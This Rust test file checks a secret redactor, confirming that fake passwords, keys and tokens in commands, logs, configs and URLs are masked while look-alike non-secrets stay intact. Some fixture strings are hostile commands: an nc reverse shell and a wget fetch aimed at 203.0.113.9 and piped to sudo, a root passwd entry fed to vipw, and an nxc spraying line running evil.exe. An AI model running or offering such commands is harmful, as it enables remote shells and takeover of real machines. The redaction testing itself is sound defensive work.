//! What has the shape of a secret and is none, and the secret of the same shape.

use super::*;

/// Texts that still hold their secret, and texts that lost something though they hold none.
fn wrongs(secret: &[(&str, &str)], honest: &[&str]) -> Vec<String> {
    let redacted = |text: &str| {
        let masked = redactor().redact_text(text);
        assert_eq!(redactor().redact_text(&masked), masked);
        masked
    };
    let leaks = secret.iter().filter_map(|(text, secret)| {
        let masked = redacted(text);
        let kept = text.split(secret).all(|kept| masked.contains(kept.trim()));
        (masked.contains(secret) || !kept).then_some(masked)
    });
    let losses = honest
        .iter()
        .filter_map(|text| Some(redacted(text)).filter(|masked| masked != text));
    leaks.chain(losses).collect()
}

#[test]
fn a_call_or_a_member_is_one_only_where_program_code_assigns_it() {
    let secret = [
        (r#"{"user":"bob","password":"Sun.shine(24)"}"#, "Sun.shine(24)"),
        (r#"{"password":"Sunshine()"}"#, "Sunshine()"),
        ("tool --password Sun.shine(24)", "Sun.shine(24)"),
        ("net user bob Zorro77() /add", "Zorro77()"),
        ("net user bob \"Pass.word(1\" /add", "Pass.word(1"),
        ("mysql -p'Zorro77()' db", "Zorro77()"),
        ("password=Zorro77x()", "Zorro77x()"),
        ("password = Zorro77x()", "Zorro77x()"),
        ("password = hunter.two", "hunter.two"),
        ("db_password = correct.horse.battery", "correct.horse.battery"),
    ];
    let honest = [
        "password = hash(",
        "String password = request.getParameter(\"password\");",
        "password: yup.string().min(8).required(),",
        "password = readPassword()",
        "const token = req.headers.authorization;",
        "password = form.password",
        "self.password = settings.db_pass",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
    let mut value = serde_json::json!({"password": "Sun.shine(24)", "secret": "Sunshine()"});
    redactor().redact_json(&mut value);
    assert!(!value.to_string().contains("shine"), "{value}");
}

#[test]
fn a_tool_that_another_one_starts_keeps_its_password() {
    let secret = [
        ("docker exec -it web mysql -u root -p Zorro77x! db", "Zorro77x!"),
        ("kubectl exec pod -- tool -u root -p Zorro77x!", "Zorro77x!"),
        ("ssh h tool -u root -p Zorro77x!", "Zorro77x!"),
        ("sudo docker run --rm img app -u bob -p Zorro77x!", "Zorro77x!"),
    ];
    let honest = [
        "docker run -u 1000:1000 -p 8080:80 -p 127.0.0.1:9090:90/tcp x",
        "docker compose -p shop2026 exec -u root web sh",
        "ssh -p 2222 h tool -u root",
        "kubectl patch deploy x -u bob -p {\"spec\":{\"replicas\":3}}",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn what_passed_is_counted_only_beside_what_did_not() {
    let secret = [
        ("login attempt user=admin pass=123456 failed", "123456"),
        ("auth user=root pass=12345678 failed from port=22", "12345678"),
        ("pass=888888 -> failure", "888888"),
        ("PASS=20241130 next fail", "20241130"),
        ("pass=888888%", "888888%"),
    ];
    let honest = [
        "tests: pass=128 fail=3 skip=0",
        "Pass: 128, Fail: 3",
        "pass=1024 errors: 2",
        "pass=300 skipped=1",
        "coverage pass=100%",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_word_of_a_language_names_a_tool_only_before_what_the_tool_takes() {
    let secret = [
        ("ip ftp password 7 Zorro77x!", "Zorro77x!"),
        ("ip ospf authentication-key Zorro77x!", "Zorro77x!"),
        ("HELLO 3 AUTH default Zorro77x!", "Zorro77x!"),
        ("vault operator unseal Zorro77xAbcDef", "Zorro77xAbcDef"),
        ("shodan init Zorro77xAbcDef", "Zorro77xAbcDef"),
        ("local-user eve password cipher SummerNight", "SummerNight"),
        ("net users eve hunter /add", "hunter"),
        ("net users eve Zorro77x", "Zorro77x"),
        ("autologon svc CORP Zorro77x!", "Zorro77x!"),
        ("pppd call provider user bob password Zorro77x!", "Zorro77x!"),
    ];
    let honest = [
        "Invalid ip 10.0.0.9: bad password given by client",
        "fail2ban: Ban ip 203.0.113.9 reason: wrong password attempts",
        "Source ip 203.0.113.9 sent wrong password 3 times",
        "hello world auth basic flow",
        "vault unseal operation",
        "shodan init done",
        "local-user cipher suites",
        "pppd call provider password prompt",
        "net users listed by the domain",
        "autologon a b c",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn the_type_of_an_audit_record_is_no_name_of_a_value() {
    let secret = [
        (
            "aws configure set aws_secret_access_key abcDEF1234567890==",
            "abcDEF1234567890==",
        ),
        ("setenv DB_PASSWORD Zorro(7=7x", "Zorro(7=7x"),
    ];
    let honest = [
        "type=USER_AUTH msg=audit(1364475353.159:24270): user pid=3280 uid=500",
        "type=CRYPTO_SESSION msg=audit(1364475353.159:24270): pid=3280",
        "node=h1 type=USER_AUTH a1b2c3d4e5f6g7h8 x",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn what_is_fed_is_hidden_by_what_the_command_does_with_it() {
    let secret = [
        ("echo 'Zor:ro:77x' | sudo -S id", "Zor:ro:77x"),
        ("echo \"correct horse battery\" | sudo -S id", "correct horse battery"),
        (
            "echo \"correct horse battery\" | su - bob -c id",
            "correct horse battery",
        ),
        ("echo 'pay load 7' | sudo -S bash -c id", "pay load 7"),
        ("echo Zorro77x | sudo -S bash", "Zorro77x"),
    ];
    let honest = [
        "echo 'nc 203.0.113.9 4444 -e bash' | sudo -S bash",
        "echo 'useradd -m eve2' | sudo -S bash -s 2>/dev/null",
        "echo 'wget 203.0.113.9 -O x1' | sudo -S /bin/sh",
        "echo 'import os' | sudo -S python3 -",
        "echo 'CREATE DATABASE shop' | sudo -S -u postgres psql",
        "echo 'nc 203.0.113.9 4444 -e sh' | su bob -c 'bash -s'",
        "echo 'eve:x:0:0::/root:/bin/sh' | sudo -S vipw",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_word_before_the_end_of_a_key_is_its_last_line_only_behind_a_long_one() {
    let end = format!("-----END RSA {} KEY-----", "PRIVATE");
    let line = "abcDEF0123456789+/".repeat(3);
    let (cut, said) = (format!("x\n{line}\nQw==\n{end}"), format!("bob wrote\nwhoami\n{end}"));
    let masked = redactor().redact_text(&cut);
    assert!(!masked.contains(&line) && !masked.contains("Qw=="), "{masked}");
    assert_eq!(redactor().redact_text(&said), said);
}

#[test]
fn a_port_a_page_or_a_label_is_no_password() {
    let sum = "0123456789abcdef".repeat(4);
    let subsonic = "/rest/ping.view?u=bob&p=hunter&v=1.12";
    let key = format!("001 web1 any {sum}");
    let secret = [
        ("check_mysql -H h -u bob -p Zorro77x! -P 3306", "Zorro77x!"),
        ("check_ldap -H h -D cn=x -P Zorro77x!", "Zorro77x!"),
        ("check_imap -H h --password Zorro77x!", "Zorro77x!"),
        ("conan user -p Zorro77x! bob", "Zorro77x!"),
        ("conan remote login art bob -p Zorro77x!", "Zorro77x!"),
        (subsonic, "hunter"),
        ("/x?u=bob&p=enc:68756e746572", "68756e746572"),
        ("bob:Zorro77x@db.example.com:5432", "Zorro77x"),
        ("bob:hunter@10.0.0.3", "hunter"),
        (key.as_str(), sum.as_str()),
        (
            "snmp-server user nms grp v3 encrypted auth sha Zorro77x! priv aes 128 Zorro77x!",
            "Zorro77x!",
        ),
        ("nxc smb h -u bob -p Zorro77x! Zorro77x!", "Zorro77x!"),
        ("openssl dgst -hmac Zorro77x! file", "Zorro77x!"),
    ];
    let of_file = format!("2026-11-29T06:00:00 003 4 10.0.0.5 {sum}");
    let in_line = format!("sensor 003 web1 10.0.0.5 {sum} /bin/x");
    let honest = [
        "check_imap -H h -p 993",
        "check_smtp -H h -p 25",
        "check_ldap -H h -p 389",
        "check_pgsql -H h -p 5432",
        "check_mysql -H h -P 3306",
        "conan install . -p linux-release",
        "openssl dgst -hmac < file",
        "GET /forum.php?f=2&u=admin&p=10345 HTTP/1.1",
        "GET /blog?u=news&p=page2 HTTP/1.1",
        "GET /blog?u=abc&p=post-title-1 HTTP/1.1",
        "sip:alice@pbx:5060",
        "sip:alice9@10.0.0.5:5060",
        "mailto:bob.smith@host:25",
        "amqp:guest@mq:5672",
        "upstream:backend@node1:8080",
        "Job:deploy@runner:8080",
        "snmp-server user nms grp v3 auth sha priv",
        &of_file,
        &in_line,
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
    let sprayed = redactor().redact_text("nxc smb h -u bob -p Zorro77x! C:\\evil.exe whoami");
    assert!(sprayed.ends_with("C:\\evil.exe whoami"), "{sprayed}");
}

#[test]
fn what_is_said_of_a_password_or_names_it_is_none() {
    let secret = [
        ("TargetObject: HKLM\\x\\DefaultPassword Details: Zorro77x", "Zorro77x"),
        (
            r#"{"field":"password","oldValue":"Zorro77x","newValue":"Zorro77x"}"#,
            "Zorro77x",
        ),
        ("password 1: Zorro77x", "Zorro77x"),
        ("password -> Zorro77x ok", "Zorro77x"),
        ("form.password(\"Zorro77x\")", "Zorro77x"),
        ("(\"password\", \"Summer24\")", "Summer24"),
        (r#"x {"password": {"new": "Zorro 77 x"}}"#, "Zorro 77 x"),
    ];
    let honest = [
        "TargetObject: HKLM\\x\\ForceChangePassword Details: DWORD (0x00000001)",
        "Account password changed New Value: 0x10 Old Value: 0x11",
        "Forgot password Details: click here",
        "bad pwd, Details: account locked",
        "audit: \"password\",\"details\":\"changed by admin\"",
        "password 1: too short",
        "password -> hash conversion done",
        "<machineKey validationKey=\"AutoGenerate,IsolateApps\" />",
        "form.password(\"password\")",
        "columns: \"password\", \"last_login2\"",
        r#"x {"password": {"new": "must match"}}"#,
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_sign_or_a_name_within_a_secret_does_not_end_or_excuse_it() {
    let secret = [
        ("mysql -pP4ss&key=zz9 db", "P4ss&key=zz9"),
        ("net user eve a&b=c /add", "a&b=c"),
        ("curl -u x:/77abc https://h/", "/77abc"),
        ("curl -u C:/Zorro77x! https://h/", "/Zorro77x!"),
        ("api_key=SHA-1234-ABCD-5678", "SHA-1234-ABCD-5678"),
        ("license key: RSA1-2345-ABCD-EFGH", "RSA1-2345-ABCD-EFGH"),
        (
            "x $6$$Zz0123456789abcdefghijklmnopqrstuv",
            "$6$$Zz0123456789abcdefghijklmnopqrstuv",
        ),
        ("no_password=Zorro77x!", "Zorro77x!"),
        ("skip_token=Zorro77xAbc123Def456", "Zorro77xAbc123Def456"),
        ("az ad sp create -p Zorro77x!", "Zorro77x!"),
        ("sqlplus 1user/Zorro77x@orcl", "Zorro77x"),
    ];
    let honest = [
        "curl -E C:\\certs\\client.pem https://h/",
        "Encryption key: AES-256-GCM",
        "sign key: RSA-SHA256",
        "session key: ECDHE-RSA-AES128-GCM-SHA256",
        "--no-password --skip-token x",
        "License exp 12/2026 checked",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}
